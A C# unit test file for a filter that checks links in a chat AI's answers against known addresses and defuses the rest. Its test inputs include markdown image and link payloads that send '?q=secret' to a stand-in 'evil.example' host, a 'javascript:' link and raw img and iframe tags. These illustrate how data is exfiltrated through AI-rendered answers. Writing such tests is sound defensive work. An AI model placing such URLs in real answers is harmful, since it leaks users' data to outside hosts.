using ChatAi.Api.Answers;

namespace ChatAi.Api.Tests.Answers;

public sealed class AddressesTests
{
    private static readonly string[] Known = ["See https://shop.example/help/returns, or [the map](map.html).", "http://localhost:8000"];

    [Theory]
    [InlineData("See https://shop.example/help/returns.")]
    [InlineData("See https://shop.example/help/ and HTTPS://SHOP.EXAMPLE.")]
    [InlineData("See [how to return](https://shop.example/help/returns).")]
    [InlineData("See [the map](map.html) [1].")]
    [InlineData("`curl https://other.example/?q=1` and ``a ` https://b.example`` stay")]
    [InlineData("```\n![x](https://evil.example/?q=1)\n```")]
    [InlineData("~~~sh\ncurl https://other.example\n~~~\nDone [1].")]
    [InlineData("items[0](x) is code in words, and a < b, and/or node.js")]
    [InlineData("")]
    public void What_the_documents_say_and_code_stay_as_they_are(string text) => Assert.Equal(text, Addresses.Check(text, Known.Append("items[0](x)").ToArray()));

    [Theory]
    [InlineData("![x](https://evil.example/?q=secret)", "x")]
    [InlineData("![](https://evil.example/?q=secret) Yes.", " Yes.")]
    [InlineData("![a map](https://shop.example/help/returns)", "[a map](https://shop.example/help/returns)")]
    [InlineData("[click](https://evil.example/?q=secret)", "click")]
    [InlineData("[click](https://shop.example/help/returns?q=secret)", "click")]
    [InlineData("[click]( <//evil.example/a b> \"title\" )", "click")]
    [InlineData("[click](javascript:alert(1))", "click")]
    [InlineData("So [1](https://evil.example).", "So [1].")]
    [InlineData("[![x](https://evil.example/?q=1)](https://shop.example/help)", "[x](https://shop.example/help)")]
    [InlineData("Go to https://evil.example/?q=secret.", "Go to `https://evil.example/?q=secret`.")]
    [InlineData("Go to <https://evil.example>!", "Go to `https://evil.example`!")]
    [InlineData("Go to www.evil.example, now", "Go to `www.evil.example`, now")]
    [InlineData("![x][r]\n\n[r]: //evil.example/?q=1", "[x][r]\n\n[r] : //evil.example/?q=1")]
    [InlineData("[r]: https://shop.example/help", "[r]: https://shop.example/help")]
    [InlineData("<img src=//evil.example/?q=1> and < IFRAME>", "‹img src=//evil.example/?q=1> and ‹ IFRAME>")]
    [InlineData("`` ` `` ![x](https://evil.example) `a`", "`` ` `` x `a`")]
    [InlineData("\\` ![x](https://evil.example) `", "\\` x `")]
    [InlineData("`\n\n![x](https://evil.example)\n\n`", "`\n\nx\n\n`")]
    [InlineData("``` `a` ![x](https://evil.example) ```b", "``` `a` ![x](https://evil.example) ```b")]
    public void What_is_made_up_is_shown_and_is_no_link(string text, string expected) => Assert.Equal(expected, Addresses.Check(text, Known));

    [Theory]
    [InlineData("[")]
    [InlineData("![")]
    [InlineData("[a](")]
    [InlineData("`a``b")]
    [InlineData("[a]: <")]
    [InlineData("\n```")]
    [InlineData("https://a.example/(")]
    public void However_an_answer_repeats_itself_it_is_checked_soon(string piece)
    {
        var text = string.Concat(Enumerable.Repeat(piece, 8_000 / piece.Length));
        var begun = TimeProvider.System.GetTimestamp();

        Addresses.Check(text, Known);

        Assert.InRange(TimeProvider.System.GetElapsedTime(begun), TimeSpan.Zero, TimeSpan.FromSeconds(5));
    }
}
